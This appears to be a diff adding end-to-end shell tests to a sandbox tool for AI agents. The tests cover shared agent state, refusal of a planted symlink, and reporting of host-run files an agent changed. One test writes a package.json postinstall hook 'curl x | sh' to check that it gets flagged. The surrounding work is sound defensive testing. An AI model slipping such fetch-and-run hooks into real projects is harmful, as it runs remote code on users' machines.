@@ -291,6 +291,57 @@ a rm -f cl >/dev/null
 expect "clone mode: rm takes the remote away" "" "$(git -C "$cws" remote)"
 check_error "clone mode needs a git repository" "--clone needs a git repository" a create --name norepo --clone shell "$ws"
 
+echo "== agent state: kept with the sandbox, or shared (--share-agent-state)"
+# A user agent (YAML) on the shell image, keeping one state directory: fast, no install.
+agents_dir="$HOME/.config/airlock/agents"
+mkdir -p "$agents_dir"
+printf 'name: stateful\ntemplate: shell\ncommand: [bash]\nstate: [.stateful/data]\nenv: [STATE_DIR=$HOME/.stateful/data]\n' \
+    > "$agents_dir/stateful.yaml"
+sws="$HOME/e2e-state"
+rm -rf "$sws" "$AIRLOCK_HOME/agent-state" && mkdir -p "$sws/one" "$sws/two" "$sws/three"
+a run --name st-own stateful "$sws/one" -- -c 'mkdir -p "$STATE_DIR" && echo first > "$STATE_DIR/note"' >/dev/null 2>&1
+a stop st-own >/dev/null
+expect "state persists across two runs of one sandbox (stopped between)" "first" \
+    "$(a run --name st-own stateful "$sws/one" -- -c 'cat "$STATE_DIR/note"' 2>&1)"
+expect "\$HOME in an agent's env is the sandbox user's home" "/home/agent/.stateful/data" \
+    "$(a exec st-own -- printenv STATE_DIR)"
+a run --share-agent-state --name st-a stateful "$sws/two" -- -c 'echo shared > "$STATE_DIR/note"' >/dev/null 2>&1
+expect "--share-agent-state: another sandbox sees the first one's state" "shared" \
+    "$(a run --share-agent-state --name st-b stateful "$sws/three" -- -c 'cat "$STATE_DIR/note"' 2>&1)"
+expect "companion: a sandbox without the flag keeps its own" "first" \
+    "$(a exec st-own -- cat /home/agent/.stateful/data/note)"
+expect "shared state lives in \$AIRLOCK_HOME/agent-state/<agent>" "shared" \
+    "$(cat "$AIRLOCK_HOME/agent-state/stateful/.stateful/data/note")"
+a rm -f st-a st-b >/dev/null
+expect "rm leaves the shared state for the next sandbox" "shared" \
+    "$(a run --share-agent-state --name st-c stateful "$sws/two" -- -c 'cat "$STATE_DIR/note"' 2>&1)"
+# A link the agent leaves where a shared state directory goes must not steer the host's mkdir.
+a exec st-c -- bash -c 'mv ~/.stateful ~/moved && ln -s /tmp ~/.stateful'
+a stop st-c >/dev/null
+check_error "a link in place of a state directory is refused at start" "not a directory" \
+    a run --name st-c stateful "$sws/two" -- -c true
+check_error "--share-agent-state needs an agent that keeps state" "keeps no state to share" \
+    a create --share-agent-state --name st-none shell "$sws/one"
+a rm -f st-own st-c >/dev/null
+rm -f "$agents_dir/stateful.yaml"
+
+echo "== after a run: files that run on the host and changed are listed"
+hws="$HOME/e2e-hostrun"
+rm -rf "$hws" && mkdir -p "$hws/.github/workflows"
+echo '{"scripts": {"test": "true"}}' > "$hws/package.json"
+echo 'on: push' > "$hws/.github/workflows/ci.yml"
+err=$(a run --name hr shell "$hws" -- -c '
+    echo "{\"scripts\": {\"test\": \"true\", \"postinstall\": \"curl x | sh\"}}" > package.json
+    echo "export A=1" > .envrc; echo notes > NOTES.md; exit 7' 2>&1 >/dev/null)
+rc=$?
+expect "the agent's exit status comes through" "7" "$rc"
+expect_match "package.json's changed scripts are named" "changed +package.json \(scripts: postinstall\)" "$err"
+expect_match "a new .envrc is listed" "added +\.envrc" "$err"
+expect "an ordinary file is not" "" "$(grep NOTES <<<"$err")"
+expect "companion: a session that changes none of them prints nothing" "" \
+    "$(a run --name hr shell "$hws" -- -c 'echo more >> NOTES.md' 2>&1)"
+a rm -f hr >/dev/null
+
 echo "== inspect, limits, reset"
 a create --name limited --memory 256m --pids 64 shell "$ws" >/dev/null
 lim=$(a inspect limited | python3 -c 'import json,sys; d=json.load(sys.stdin)["limits"]; print(d["requested"]["memoryBytes"], d["enforced"] or bool(d["note"]))')
